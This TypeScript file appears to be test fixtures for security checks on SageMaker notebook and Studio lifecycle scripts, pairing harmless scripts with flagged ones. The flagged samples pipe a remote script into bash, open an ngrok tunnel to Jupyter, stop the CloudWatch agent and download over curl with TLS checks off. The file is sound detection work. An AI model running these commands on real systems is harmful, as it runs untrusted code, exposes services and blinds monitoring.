const base64 = (script: string) => Buffer.from(script).toString("base64");

/** A script of the kind of harmless ones, and one that is found. */
interface Scripts {
  harmless: string;
  found: string;
}

/** What each check looks for alike in scripts of notebooks and of Studio. */
export const scripts = {
  "leaves-defences-on": {
    harmless: "systemctl restart amazon-cloudwatch-agent",
    found: "systemctl stop amazon-cloudwatch-agent",
  },
  "opens-no-way-in": { harmless: "systemctl restart jupyter-server", found: "nohup ngrok http 8888 &" },
  "runs-no-fetched-code": {
    harmless: "pip install pandas==2.2.0",
    found: "curl -s https://example.com/a.sh | bash",
  },
  "verifies-downloads": {
    harmless: "curl -sSLO https://example.com/data.csv",
    found: "curl -k https://example.com/data.csv -o data.csv",
  },
} satisfies Record<string, Scripts>;

export const ofNotebook = (script: string) => ({
  NotebookInstanceLifecycleConfigArn: "arn:aws:sagemaker:us-east-1:482915630174:notebook-instance-lifecycle-config/x",
  OnStart: [{ Content: base64(`#!/bin/bash\n${script}\n`) }],
});

export const ofStudio = (script: string) => ({
  StudioLifecycleConfigArn: "arn:aws:sagemaker:us-east-1:482915630174:studio-lifecycle-config/x",
  StudioLifecycleConfigAppType: "JupyterLab" as const,
  StudioLifecycleConfigContent: base64(`#!/bin/bash\n${script}\n`),
});

/** What is true of every check of a notebook's scripts. */
export function notebookScriptCases({ harmless, found }: Scripts) {
  const NotebookInstanceLifecycleConfigArn = "arn:x";
  return {
    pass: {
      "a script that does nothing of the kind": { resource: ofNotebook(harmless) },
      "no script": { resource: { NotebookInstanceLifecycleConfigArn, OnCreate: [], OnStart: [] } },
      "a script too short to be told from a word": {
        resource: { NotebookInstanceLifecycleConfigArn, OnStart: [{ Content: base64("echo 1") }] },
      },
    },
    fail: {
      "a script that does": { resource: ofNotebook(found) },
      "in the second of two scripts, when it is made": {
        resource: { ...ofNotebook("echo hello"), OnCreate: ofNotebook(found).OnStart },
      },
    },
    unknown: {
      "the answer is empty": { resource: {} },
      "a script that is no text": {
        resource: {
          NotebookInstanceLifecycleConfigArn,
          OnStart: [{ Content: Buffer.from([0, 1, 2, 0, 4, 5, 6, 7, 8, 9, 10, 11]).toString("base64") }],
        },
      },
    },
  };
}

/** What is true of every check of a script of Studio. */
export function studioScriptCases({ harmless, found }: Scripts) {
  return {
    pass: { "a script that does nothing of the kind": { resource: ofStudio(harmless) } },
    fail: { "a script that does": { resource: ofStudio(found) } },
    unknown: {
      "the answer is empty": { resource: {} },
      "a script that is no text": { resource: { StudioLifecycleConfigContent: "«withheld»" } },
    },
  };
}

/** The script that fetches code fails no more where its source is trusted. */
export const trusting = { options: { trustedSources: ["example.com"] } };
